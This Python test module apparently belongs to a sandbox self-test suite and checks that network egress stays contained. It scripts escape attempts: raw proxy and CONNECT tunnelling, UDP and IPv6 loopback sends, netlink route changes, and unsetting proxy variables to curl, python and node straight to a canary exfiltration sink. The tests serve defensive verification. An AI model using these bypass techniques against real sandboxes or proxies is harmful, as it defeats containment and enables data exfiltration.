"""Network egress: no route out except the gate, and the gate says no.

This module also holds the helpers the dns, proxy and credentials cases share: a Python
prelude for hostile clients inside the sandbox (raw proxy requests, CONNECT tunnels, TLS with
any SNI, one JSON line per attack step), the host-side judge that turns sink contacts, gate
decision-log lines and reported steps into a verdict, and tiny host-side upstreams (a
redirector, an echo) bound to 127.0.0.1 only.
"""

from __future__ import annotations

import json
import os
import secrets
import socket
import threading
import time
from contextlib import contextmanager

from agentvm.selftest.framework import CANARY_HOST, SINK_NAME, Env, Verdict, case

# names the canary policy allows (everything else is forbidden, including SINK_NAME/CANARY_HOST)
ALLOWED_HOSTS = {"allowed.selftest", "api.selftest", "api.github.com"}


def _sink_verdict(env: Env, o, what: str) -> Verdict:
    if o.sink:
        return Verdict.escaped(f"{what}: the sink received {len(o.sink)} contact(s): {o.sink[0][1][:80]!r}")
    return Verdict.contained(f"{what}: nothing reached the sink; sandbox said: {o.out.strip()[-200:]}")


# ---------------------------------------------------------------------------- shared helpers

# Sandbox side: a hostile client that speaks to the gate's bridge (127.0.0.1:3128) by hand.
# ``note(step, response, forbidden=...)`` prints one JSON line per attack step; a *forbidden*
# step that got a 2xx/101 (or the sink's body "sink!") is evidence for the judge.
PRELUDE = r'''
import json, os, socket, ssl, sys, time
P = int(os.environ.get("SP", "0"))
GATE = ("127.0.0.1", 3128)
SINK_NAME = "canary.selftest"
CANARY_HOST = "canary-exfil.selftest"

def _open(via=None, timeout=3.0):
    if via:
        s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM); s.settimeout(timeout); s.connect(via); return s
    return socket.create_connection(GATE, timeout=timeout)

def read_resp(s, head_only=False, limit=1 << 20):
    buf = b""
    try:
        while b"\r\n\r\n" not in buf:
            d = s.recv(65536)
            if not d:
                return buf
            buf += d
        if head_only:
            return buf
        head, _, body = buf.partition(b"\r\n\r\n")
        cl, chunked = None, False
        for line in head.split(b"\r\n")[1:]:
            k, _, v = line.partition(b":")
            if k.strip().lower() == b"content-length":
                cl = int(v.strip())
            if k.strip().lower() == b"transfer-encoding":
                chunked = True
        while len(buf) < limit:
            if cl is not None and len(body) >= cl:
                break
            if chunked and body.endswith(b"0\r\n\r\n"):
                break
            d = s.recv(65536)
            if not d:
                break
            body += d
            buf += d
    except (socket.timeout, OSError, ssl.SSLError, ValueError) as e:
        buf += b"\n[read: " + type(e).__name__.encode() + b"]"
    return buf

def status(r):
    try:
        return int(r.split(b" ", 2)[1]) if r.startswith(b"HTTP/") else 0
    except Exception:
        return 0

def ok(r):
    return status(r) in (200, 101) or b"sink!" in r

def note(step, r, forbidden=True, **kw):
    r = r if isinstance(r, bytes) else str(r).encode()
    print(json.dumps({"step": step, "status": status(r), "ok": ok(r), "forbidden": forbidden,
                      "head": r[:240].decode("latin-1"), **kw}), flush=True)

def send(data, via=None, head_only=False, timeout=3.0):
    """one raw request on a fresh proxy connection -> the response bytes"""
    try:
        s = _open(via, timeout)
        s.sendall(data)
        r = read_resp(s, head_only)
        s.close()
        return r
    except Exception as e:
        return ("ERR %s: %s" % (type(e).__name__, e)).encode()

def connect(host, port, via=None, timeout=3.0):
    """CONNECT host:port -> (socket or None, response head)"""
    try:
        s = _open(via, timeout)
        hp = ("%s:%d" % (host, port)).encode("utf-8", "surrogateescape")
        s.sendall(b"CONNECT " + hp + b" HTTP/1.1\r\nHost: " + hp + b"\r\n\r\n")
        h = read_resp(s, head_only=True)
        if status(h) != 200:
            s.close()
            return None, h
        return s, h
    except Exception as e:
        return None, ("ERR %s: %s" % (type(e).__name__, e)).encode()

def tls(s, sni, verify=False):
    ctx = ssl.create_default_context()
    if not verify or sni is None:
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
    return ctx.wrap_socket(s, server_hostname=sni)

def tunnel(host, port, sni, inner, via=None):
    """CONNECT host:port, then TLS with ``sni`` (None: no SNI; False: no TLS at all), then
    send ``inner`` -> (CONNECT response head, inner response or error)"""
    s, h = connect(host, port, via)
    if s is None:
        return h, b""
    try:
        t = tls(s, sni) if sni is not False else s
        t.sendall(inner)
        return h, read_resp(t)
    except Exception as e:
        return h, ("[inner: %s: %s]" % (type(e).__name__, e)).encode()

def get(host, port, path="/", extra=b"", absolute=True, method=b"GET", body=b""):
    """an absolute-form request as a forward proxy expects it"""
    hp = ("%s:%d" % (host, port)).encode("utf-8", "surrogateescape")
    target = b"http://" + hp + path.encode() if absolute else path.encode()
    req = method + b" " + target + b" HTTP/1.1\r\nHost: " + hp + b"\r\n" + extra
    if body:
        req += b"Content-Length: %d\r\n" % len(body)
    return req + b"Connection: close\r\n\r\n" + body
'''


def steps(o) -> list[dict]:
    """The JSON step lines a PRELUDE client printed."""
    out = []
    for line in o.stdout.splitlines():
        line = line.strip()
        if line.startswith("{") and '"step"' in line:
            try:
                out.append(json.loads(line))
            except ValueError:
                pass
    return out


def _h(host) -> str:
    return str(host or "").strip().lower().rstrip(".")


def evidence(o, *, sink_filter=None, allowed_hosts=ALLOWED_HOSTS) -> list[str]:
    """Everything in ``o`` that shows an attack on the policy succeeded:

    * the sink received something (optionally only what ``sink_filter(data)`` accepts);
    * the gate logged an ``allow`` for a host the policy does not allow;
    * the gate passed a forbidden name on to resolution (``dns-failure``/``address-class``:
      the name reached a resolver - a DNS exfiltration channel - and was allowed by policy);
    * a step the sandbox marked forbidden got a 2xx/101 or the sink's body.
    """
    ev = []
    hits = [h for h in o.sink if sink_filter is None or sink_filter(h[1])]
    if hits:
        ev.append(f"the sink received {len(hits)} contact(s), first {hits[0][1][:160]!r}")
    for line in o.egress:
        host = _h(line.get("host"))
        if not host or host in allowed_hosts:
            continue
        where = f"{host}:{line.get('port')} (rule {line.get('rule')}, phase {line.get('phase')})"
        if line.get("verdict") == "allow":
            ev.append(f"the gate allowed {where}")
        elif line.get("rule") in ("dns-failure", "address-class"):
            ev.append(f"the gate's policy let {where} through to name resolution")
    for s in steps(o):
        if s.get("forbidden") and s.get("ok"):
            ev.append(f"step {s['step']!r} succeeded: {s.get('head', '')[:120]!r}")
    return ev


def summary(o, n: int = 8) -> str:
    """A short account of how the gate answered (for contained evidence)."""
    rules = {}
    for line in o.egress:
        if line.get("verdict") == "deny":
            rules[str(line.get("rule"))] = rules.get(str(line.get("rule")), 0) + 1
    st = [f"{s['step']}={s['status'] or s['head'][:40]}" for s in steps(o)][:n]
    tail = o.stderr.strip()[-160:]
    return (f"gate denials {dict(sorted(rules.items()))}; steps {st}" + (f"; stderr {tail!r}" if tail and not st else ""))


def judge(o, what: str, **kw) -> Verdict:
    ev = evidence(o, **kw)
    if ev:
        return Verdict.escaped(f"{what}: " + "; ".join(ev[:4]))
    if "Traceback (most recent call last)" in o.stderr:  # a crashed attack proves nothing
        return Verdict.error(f"{what}: the attack program crashed: {o.stderr.strip()[-300:]}")
    return Verdict.contained(f"{what}: nothing reached the sink, no forbidden host allowed; " + summary(o))


def prelude_run(env: Env, body: str, **kw):
    """Run PRELUDE + ``body`` (Python) in a sandbox; the sink port is in $SP."""
    e = dict(kw.pop("env", None) or {})
    e["SP"] = str(env.sink.port)
    return env.sandbox(PRELUDE + "\n" + body, lang="python", env=e, **kw)


def free_port(family=socket.AF_INET, host="127.0.0.1", kind=socket.SOCK_STREAM) -> int:
    s = socket.socket(family, kind)
    s.bind((host, 0))
    p = s.getsockname()[1]
    s.close()
    return p


class Listener:
    """A host-side recorder (TCP or UDP, IPv4/IPv6, or an abstract unix socket) on loopback."""

    def __init__(self, family=socket.AF_INET, kind=socket.SOCK_STREAM, addr=("127.0.0.1", 0)):
        self.s = socket.socket(family, kind)
        if family != socket.AF_UNIX:
            self.s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        self.s.bind(addr)
        self.kind = kind
        self.addr = self.s.getsockname()
        if kind == socket.SOCK_STREAM:
            self.s.listen(16)
        self.s.settimeout(0.2)
        self.hits: list[bytes] = []
        self._stop = False
        self._t = threading.Thread(target=self._loop, daemon=True)
        self._t.start()

    @property
    def port(self) -> int:
        return self.addr[1]

    def _loop(self) -> None:
        while not self._stop:
            try:
                if self.kind == socket.SOCK_STREAM:
                    c, _ = self.s.accept()
                    c.settimeout(0.5)
                    try:
                        data = c.recv(4096)
                    except OSError:
                        data = b""
                    c.close()
                else:
                    data, _ = self.s.recvfrom(65536)
            except (socket.timeout, OSError):
                continue
            self.hits.append(data[:4096] or b"(connected, no data)")

    def close(self) -> None:
        self._stop = True
        self._t.join(1)
        self.s.close()


@contextmanager
def listening(*a, **kw):
    lst = Listener(*a, **kw)
    try:
        yield lst
    finally:
        time.sleep(0.05)
        lst.close()


@contextmanager
def http_upstream(handler):
    """A minimal HTTP/1.1 upstream on 127.0.0.1: ``handler(request_bytes) -> response_bytes``.
    Records every request it saw in ``.requests``."""

    class U:
        pass

    u = U()
    u.requests = []
    srv = socket.socket()
    srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    srv.bind(("127.0.0.1", 0))
    srv.listen(16)
    srv.settimeout(0.2)
    u.port = srv.getsockname()[1]
    stop = [False]

    def loop():
        while not stop[0]:
            try:
                c, _ = srv.accept()
            except (socket.timeout, OSError):
                continue
            c.settimeout(1.0)
            data = b""
            try:
                while b"\r\n\r\n" not in data:
                    d = c.recv(65536)
                    if not d:
                        break
                    data += d
                head, _, body = data.partition(b"\r\n\r\n")
                low = head.lower()
                need = 0
                for line in low.split(b"\r\n"):
                    if line.startswith(b"content-length:"):
                        need = int(line.split(b":", 1)[1].strip() or 0)
                chunked = b"transfer-encoding: chunked" in low
                while (len(body) < need or (chunked and not body.endswith(b"0\r\n\r\n"))) and len(data) < 1 << 20:
                    d = c.recv(65536)
                    if not d:
                        break
                    body += d
                    data += d
                u.requests.append(data)
                c.sendall(handler(data))
            except OSError:
                pass
            c.close()

    t = threading.Thread(target=loop, daemon=True)
    t.start()
    try:
        yield u
    finally:
        stop[0] = True
        t.join(1)
        srv.close()


# what iproute2 prints when the kernel (or gVisor's netstack) refuses a dump: not a route
_NOT_ROUTES = ("RTNETLINK answers:", "Dump terminated", "Error:", "Cannot ", "Object \"")


def _route_lines(text: str) -> list[str]:
    return [l for l in text.splitlines() if l.strip() and " dev lo" not in l and not l.startswith(("[", "#"))
            and not l.startswith(_NOT_ROUTES)]


# ---------------------------------------------------------------------------- cases


@case("net.tcp-direct-loopback", "network", "TCP straight to the host's 127.0.0.1 (the sink), ignoring the proxy",
      weakened_by="share-net+no-landlock")
def _(env: Env) -> Verdict:
    code = f"""
import socket
try:
    s = socket.create_connection(("127.0.0.1", {env.sink.port}), timeout=3); s.sendall(b"GET / HTTP/1.0\\r\\n\\r\\n")
    print("CONNECTED")
except Exception as e:
    print("BLOCKED", type(e).__name__, e)
"""
    return _sink_verdict(env, env.sandbox(code, lang="python", egress=False), "direct TCP")


@case("net.udp-direct-loopback", "network", "UDP datagrams to the host's 127.0.0.1 (the sink)", weakened_by="share-net")
def _(env: Env) -> Verdict:
    code = f"""
import socket
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
for _ in range(5):
    try:
        s.sendto(b"exfil-udp", ("127.0.0.1", {env.sink.port}))
    except OSError as e:
        print("BLOCKED", e)
"""
    return _sink_verdict(env, env.sandbox(code, lang="python", egress=False), "UDP")


@case("net.tcp-ipv6-loopback", "network", "TCP to a listener on the host's [::1], with the proxy in place",
      weakened_by="share-net+no-landlock")
def _(env: Env) -> Verdict:
    with listening(socket.AF_INET6, socket.SOCK_STREAM, ("::1", 0)) as lst:
        code = f"""
import socket
try:
    s = socket.create_connection(("::1", {lst.port}), timeout=2); s.sendall(b"exfil-tcp6"); print("CONNECTED")
except Exception as e:
    print("BLOCKED", type(e).__name__, e)
"""
        o = env.sandbox(code, lang="python")
    if lst.hits:
        return Verdict.escaped(f"the host's [::1]:{lst.port} received {lst.hits[0][:60]!r}; sandbox: {o.out.strip()[-120:]}")
    return Verdict.contained(f"nothing reached the host's [::1]:{lst.port}; sandbox: {o.out.strip()[-160:]}")


@case("net.udp-ipv6-loopback", "network", "UDP datagrams to a listener on the host's [::1]", weakened_by="share-net")
def _(env: Env) -> Verdict:
    with listening(socket.AF_INET6, socket.SOCK_DGRAM, ("::1", 0)) as lst:
        code = f"""
import socket
s = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
for _ in range(5):
    try:
        s.sendto(b"exfil-udp6", ("::1", {lst.port}))
    except OSError as e:
        print("BLOCKED", e)
"""
        o = env.sandbox(code, lang="python", egress=False)
    if lst.hits:
        return Verdict.escaped(f"the host's [::1]:{lst.port} received {len(lst.hits)} datagram(s) {lst.hits[0][:40]!r}")
    return Verdict.contained(f"nothing reached the host's [::1]:{lst.port}; sandbox: {o.out.strip()[-160:]}")


@case("net.testnet-route", "network",
      "ICMP/raw/packet sockets and route lookups toward 192.0.2.1 and 2001:db8::1 (TEST-NET; no packet is sent)",
      weakened_by="share-net")
def _(env: Env) -> Verdict:
    # connect() on a datagram socket only looks up a route: nothing is transmitted.
    code = r"""
import socket
found = []
def attempt(name, fam, typ, proto, dst):
    try:
        s = socket.socket(fam, typ, proto)
    except OSError as e:
        print(name, "socket:", e); return
    try:
        s.connect(dst)
        src = s.getsockname()
        print(name, "ROUTE via source", src); found.append((name, src))
    except OSError as e:
        print(name, "connect:", e)
    finally:
        s.close()
attempt("icmp-ping", socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP, ("192.0.2.1", 0))
attempt("icmp-raw", socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP, ("192.0.2.1", 0))
attempt("udp4", socket.AF_INET, socket.SOCK_DGRAM, 0, ("192.0.2.1", 9))
attempt("udp6", socket.AF_INET6, socket.SOCK_DGRAM, 0, ("2001:db8::1", 9))
try:
    socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 0); print("packet socket: OPENED"); found.append(("packet", "-"))
except OSError as e:
    print("packet socket:", e)
print("FOUND", found)
"""
    o = env.sandbox(code, lang="python", egress=False)
    hits = [l for l in o.stdout.splitlines() if "ROUTE via" in l or "OPENED" in l]
    if hits:
        return Verdict.escaped("a route/socket out of the sandbox exists: " + "; ".join(hits)[:400])
    return Verdict.contained("no ICMP/raw/packet socket, no route to TEST-NET: " + " | ".join(o.stdout.splitlines()[:5])[:400])


@case("net.list-interfaces", "network", "Enumerate network interfaces (if_nameindex, /sys/class/net, /proc/net/dev)",
      weakened_by="share-net")
def _(env: Env) -> Verdict:
    code = r"""
import socket, os
names = set(n for _, n in socket.if_nameindex())
for p in ("/sys/class/net", ):
    try: names |= set(os.listdir(p))
    except OSError as e: print(p, e)
try:
    for line in open("/proc/net/dev").read().splitlines()[2:]:
        names.add(line.split(":")[0].strip())
except OSError as e:
    print("/proc/net/dev", e)
print("IFACES", sorted(names))
"""
    o = env.sandbox(code, lang="python", egress=False)
    line = next((l for l in o.stdout.splitlines() if l.startswith("IFACES")), "")
    try:
        names = eval(line[len("IFACES"):].strip(), {})  # a list literal the sandbox printed
    except Exception:
        return Verdict.error(f"no interface list: {o.out[-300:]}")
    other = [n for n in names if n != "lo"]
    if other:
        return Verdict.escaped(f"the sandbox sees interfaces beyond loopback: {other}")
    return Verdict.contained(f"only {names} visible")


@case("net.netlink-routes", "network", "Netlink: dump the routing tables and try to add an address, a route and a link",
      weakened_by="share-net")
def _(env: Env) -> Verdict:
    code = r"""
ip route show table all 2>&1; echo "---6"; ip -6 route show table all 2>&1; echo "---neigh"; ip neigh 2>&1
echo "---mod"
ip addr add 192.0.2.77/32 dev lo 2>&1 && echo "MODIFIED addr"
ip route add 192.0.2.0/24 dev lo 2>&1 && echo "MODIFIED route"
ip link add agentvm-st0 type dummy 2>&1 && echo "MODIFIED link"
"""
    o = env.sandbox(code, egress=False)
    if "ip: not found" in o.stdout or "ip: not found" in o.stderr:
        return Verdict.error("the sandbox has no `ip` (iproute2): the attack could not be made")
    dump, _, mod = o.stdout.partition("---mod")
    routes = [l for l in _route_lines(dump) if not l.startswith("---")]
    changed = [l for l in mod.splitlines() if l.startswith("MODIFIED")]
    if routes or changed:
        return Verdict.escaped(f"routes beyond loopback: {routes[:4]}; modifications that succeeded: {changed}")
    return Verdict.contained(f"only loopback routes; modifications refused: {[l for l in mod.splitlines() if l.strip()][:3]}")


@case("net.bind-reached-from-host", "network", "Listen on a port inside and be reached from the host's loopback",
      weakened_by="share-net+no-landlock")
def _(env: Env) -> Verdict:
    port = free_port()
    token = "reach-" + secrets.token_hex(6)
    result = {"connected": False}

    def knock():
        deadline = time.monotonic() + 2.5
        while time.monotonic() < deadline:
            try:
                c = socket.create_connection(("127.0.0.1", port), timeout=0.3)
                c.sendall(token.encode())
                c.close()
                result["connected"] = True
                return
            except OSError:
                time.sleep(0.05)

    code = f"""
import socket, time
s = socket.socket()
try:
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", {port})); s.listen(4); s.settimeout(2.5)
    print("LISTENING", flush=True)
    c, peer = s.accept(); c.settimeout(1); print("GOT", c.recv(100).decode(errors="replace"), peer)
except Exception as e:
    print("BLOCKED", type(e).__name__, e)
"""
    t = threading.Thread(target=knock, daemon=True)
    t.start()
    o = env.sandbox(code, lang="python", egress=False)
    t.join(3)
    if token in o.stdout:
        return Verdict.escaped(f"the host connected to the sandbox's listener on port {port}: {o.stdout.strip()[-160:]}")
    return Verdict.contained(f"not reachable from the host (host connected: {result['connected']}): {o.out.strip()[-160:]}")


@case("net.abstract-unix-host", "network", "Connect to an abstract unix socket listening on the host",
      weakened_by="share-net+no-landlock")
def _(env: Env) -> Verdict:
    name = "\0agentvm-selftest-" + secrets.token_hex(6)
    with listening(socket.AF_UNIX, socket.SOCK_STREAM, name) as lst:
        code = f"""
import socket
s = socket.socket(socket.AF_UNIX)
try:
    s.connect({name!r}); s.sendall(b"exfil-abstract"); print("CONNECTED")
except Exception as e:
    print("BLOCKED", type(e).__name__, e)
"""
        o = env.sandbox(code, lang="python")
    if lst.hits:
        return Verdict.escaped(f"the host's abstract socket @{name[1:]} received {lst.hits[0][:40]!r}")
    return Verdict.contained(f"the host's abstract socket was not reachable: {o.out.strip()[-160:]}")


@case("net.gate-socket-direct", "network",
      "Speak to the gate's unix socket directly (bypassing the bridge) and ask for the sink",
      weakened_by="permissive-gate")
def _(env: Env) -> Verdict:
    body = r"""
import stat
G = "/.agentvm/gate.sock"
try:
    st = os.stat(G); print("gate.sock mode", oct(stat.S_IMODE(st.st_mode)), "uid", st.st_uid)
except OSError as e:
    print("stat", e)
note("plain-sink", send(get(SINK_NAME, P, "/via-gate-sock"), via=G))
note("plain-canary", send(get(CANARY_HOST, P, "/via-gate-sock"), via=G))
h, r = tunnel(SINK_NAME, P, False, b"GET / HTTP/1.1\r\nHost: %s:%d\r\nConnection: close\r\n\r\n" % (SINK_NAME.encode(), P), via=G)
note("connect-sink", h); note("connect-sink-inner", r)
"""
    o = prelude_run(env, body)
    return judge(o, "requests over /.agentvm/gate.sock")


@case("net.proxy-vars-unset", "network",
      "Drop every proxy variable and go direct (curl --noproxy, python, node) to the sink's name and address",
      weakened_by="share-net+no-landlock")
def _(env: Env) -> Verdict:
    p = env.sink.port
    code = f"""
unset HTTP_PROXY HTTPS_PROXY ALL_PROXY http_proxy https_proxy all_proxy NO_PROXY no_proxy NODE_OPTIONS NODE_USE_ENV_PROXY
curl -s -m 2 --noproxy '*' http://127.0.0.1:{p}/curl-direct; echo " curl-ip rc=$?"
curl -s -m 2 --noproxy '*' http://{SINK_NAME}:{p}/curl-name; echo " curl-name rc=$?"
curl -s -m 2 --noproxy '*' --resolve {SINK_NAME}:{p}:127.0.0.1 http://{SINK_NAME}:{p}/curl-resolve; echo " curl-resolve rc=$?"
/usr/bin/python3 -c 'import urllib.request as u; print(u.build_opener(u.ProxyHandler({{}})).open("http://127.0.0.1:{p}/py", timeout=2).read())' 2>&1 | tail -1
node -e 'require("net").connect({p}, "127.0.0.1", function(){{ this.end("GET /node HTTP/1.0\\r\\n\\r\\n"); console.log("node connected") }}).on("error", e => console.log("node", e.code))' 2>&1 | tail -1
"""
    o = env.sandbox(code)
    return _sink_verdict(env, o, "direct connections without proxy variables")
